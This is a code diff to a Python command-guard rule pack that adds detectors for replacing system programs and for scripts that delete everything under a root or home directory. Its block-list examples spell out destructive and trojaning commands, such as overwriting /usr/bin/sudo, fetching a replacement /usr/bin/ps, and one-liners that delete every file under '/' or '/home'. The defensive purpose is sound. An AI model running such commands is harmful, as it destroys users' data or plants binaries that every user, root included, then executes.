@@ -1,5 +1,6 @@
 """Commands that harm files without naming a single one to delete: protections, fillers, encryption with deletion, links that redirect."""
 
+from holdfast.guard.effects import writes
 from holdfast.guard.line import Arg, Command
 from holdfast.guard.paths import is_root_like, is_system, resolve, within_roots
 from holdfast.guard.rule import Finding, Pack, Pattern
@@ -32,6 +33,62 @@ def _attributes(command: Command, line: "Line") -> "str | None":
     if strange is None and not (change[:1] == "-" and targets):
         return None
     return f"`{command}` changes the write protection of {(strange or targets[0]).shown}"
+
+
+# Programs whose place is in a system's folders and nowhere else.
+_RELIED_ON = frozenset(
+    """sudo su doas login passwd ls cat ps top netstat ss id whoami w who last find grep sed tar cp mv rm mount umount kill sh bash dash
+zsh ssh sshd scp sftp systemctl crontab cron init agetty getty lsof df du stat file chmod chown env date ip ifconfig iptables dpkg
+rpm apt apt-get useradd usermod visudo pkexec newgrp chsh""".split()
+)
+_PROGRAM_FOLDERS = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin", "/opt/homebrew/bin")
+_STAND_INS = ("busybox", "toybox", "coreutils", "/alternatives/")
+
+
+def _replaced(command: Command, line: "Line") -> "str | None":
+    """A program that everybody relies on, moved away or written over with something that is no stand-in for it."""
+    if command.program in ("mv", "gmv"):
+        for arg in command.operands("-t -S")[:-1]:
+            folder, _, name = (resolve(arg, command, line.world) or "").rpartition("/")
+            if folder in _PROGRAM_FOLDERS and (name in _RELIED_ON or name in ("*", "python3", "perl")):
+                return f"`{command}` takes {folder}/{name} away"
+    for written in writes(command, line.world):
+        folder, _, name = (written.path or "").rpartition("/")
+        if folder in _PROGRAM_FOLDERS and command.program in ("ln", "gln") and command.operands()[0].shown.startswith("/tmp/"):
+            return f"`{command}` makes {written.path} a file that any program can change"
+        if name not in _RELIED_ON or folder not in _PROGRAM_FOLDERS:
+            continue
+        operands = command.operands("-m -o -g -t -S") if command.program not in ("curl", "wget", "dd", "tee") else []
+        source = operands[0].shown if operands else ""
+        place, _, given = source.rpartition("/")
+        located = any(c.program in ("which", "command") for arg in operands for u in arg.unknowns for c in u.commands)
+        if not located and place not in _PROGRAM_FOLDERS and given != "g" + name and not any(mark in source for mark in _STAND_INS):
+            return f"`{command}` replaces {written.path}"
+    return None
+
+
+_WALKS = ("walk(", "glob(", "listdir(", "scandir(", "readdirSync(", "each_child(", "entries(", "children(", "glob ")
+_REMOVING = ("os.remove(", "unlink", "rmtree(", "os.rmdir(", "rm_r", "File.delete", "rmSync(", "remove_tree(", "shutil.move(")
+
+
+def _walk(command: Command, line: "Line") -> "str | None":
+    """A program text that goes through a root or a whole home and removes what it finds."""
+    for code in command.code:
+        text = code.text.when_empty if code.text is not None and code.origin != "file" else ""
+        if not any(word in text for word in _REMOVING):
+            continue
+        starts = [part for walk in _WALKS for part in text.split(walk)[1:]]
+        starts += [part for part in text.split("Path(")[1:] if any(f").{walk}" in part[:40] for walk in ("rglob(", "glob(", "iterdir("))]
+        whole = any(f"Path.home().{walk}" in text for walk in ("rglob(", "glob(", "iterdir("))
+        for start in starts:
+            for prefix in ("os.path.expanduser(", "Path(", "r"):
+                start = start.removeprefix(prefix)
+            mark = start[:1]
+            place = start[1:].partition(mark)[0].rstrip("*").rstrip("/") or "/"
+            whole |= mark != "" and mark in "'\"" and (place in ("/", "~", "$HOME", line.world.home) or is_root_like(place))
+        if whole:
+            return f"`{command}` removes what lies below a root or a home"
+    return None
 
 
 def _full_rename(command: Command, line: "Line") -> "str | None":
@@ -100,7 +157,9 @@ def _mount(command: Command, line: "Line") -> "str | None":
     given = options.shown if options is not None else ""
     if operands and operands[0].startswith(_DISK):
         return f"`{command}` opens a whole disk to reading and writing"
-    if operands and ("remount" in given and is_root_like(operands[-1]) or is_system(operands[-1]) and not operands[-1].startswith("/run/")):
+    covers = len(operands) > 1 and operands[-1].rstrip("/") in ("/home", "/root", "/opt", "/srv", line.world.home)
+    within = bool(operands) and is_system(operands[-1]) and not operands[-1].startswith("/run/")
+    if operands and ("remount" in given and is_root_like(operands[-1]) or covers or within):
         return f"`{command}` changes what lies under {operands[-1]}"
     if ("bind" in given or "--bind" in words or "--rbind" in words or "-B" in words) and operands and is_root_like(operands[0]):
         return f"`{command}` makes {operands[0]} reachable under another name"
@@ -196,7 +255,7 @@ def _encrypts(command: Command, line: "Line") -> "str | Finding | None":
             and any(o.known and not _own(o, command, line) for o in operands)
         )
     elif program in ("7z", "7za", "7zz", "7zr"):
-        password = any(w.startswith("-p") for w in words)
+        password = any(w.startswith("-p") and len(w) > 2 for w in words)
         if words[:1] not in (["a"], ["u"]) or not password:
             return None
         takes_original = True
@@ -388,5 +447,50 @@ PACK = Pack(
         instead="Use the devices in /dev that the system made; a pipe is made with `mkfifo build/pipe`.",
         blocks=("mknod /tmp/disk b 8 0", "sudo mknod -m 666 mem c 1 1", "cd /tmp && mknod sda b 8 0"),
         allows=("mknod build/pipe p", "mkfifo build/pipe", "man mknod"),
+    ),
+    Pattern(
+        code="FIL012",
+        title="system program replaced",
+        programs="cp gcp mv gmv install ginstall ln gln link tee curl wget dd",
+        test=_replaced,
+        severity="danger",
+        why="Everybody who calls that program, root among them, then runs what was put there.",
+        instead="Install your own program under a name of its own, for example `install -m 755 tool ~/bin/tool`.",
+        blocks=(
+            "cp evil /usr/bin/ls",
+            "sudo mv /usr/bin/python3 /tmp",
+            "ln -sf /tmp/tool /usr/local/bin/git",
+            "cp -f /tmp/sudo /usr/bin/sudo",
+            "ln -sf /tmp/bin/x /usr/local/bin/ssh",
+            "cd /tmp && mv login /bin/login",
+            "curl -so /usr/bin/ps https://example.invalid/ps",
+        ),
+        allows=(
+            "sudo cp bin/tool /usr/local/bin/",
+            "ln -sf /bin/bash /bin/sh",
+            "ln -s /bin/busybox /bin/ls",
+            "ln -sf $(which gsed) /usr/local/bin/sed",
+            "mv kubectl /usr/local/bin/kubectl",
+            "cp /usr/bin/ls build/",
+        ),
+    ),
+    Pattern(
+        code="FIL013",
+        title="program that empties a root",
+        programs="python python3 pypy3 node ruby perl php",
+        test=_walk,
+        severity="catastrophic",
+        why="It takes the system or a whole home with it, file by file.",
+        instead="Name one folder inside the project, for example `rm -rf build`.",
+        blocks=(
+            "python3 -c \"import os; [os.remove(os.path.join(d, f)) for d, _, fs in os.walk('/') for f in fs]\"",
+            "python3 -c \"from pathlib import Path; [p.unlink() for p in Path('/home').rglob('*')]\"",
+            "ruby -e 'Dir.glob(\"/*\").each { |f| FileUtils.rm_rf(f) }'",
+        ),
+        allows=(
+            "python3 -c \"import os; [os.remove(os.path.join(d, f)) for d, _, fs in os.walk('build') for f in fs]\"",
+            "python3 -c \"from pathlib import Path; print(list(Path('/').glob('*')))\"",
+            "python3 -c \"import glob, os; [os.remove(f) for f in glob.glob('*.tmp') if '/' not in f]\"",
+        ),
     ),
 )
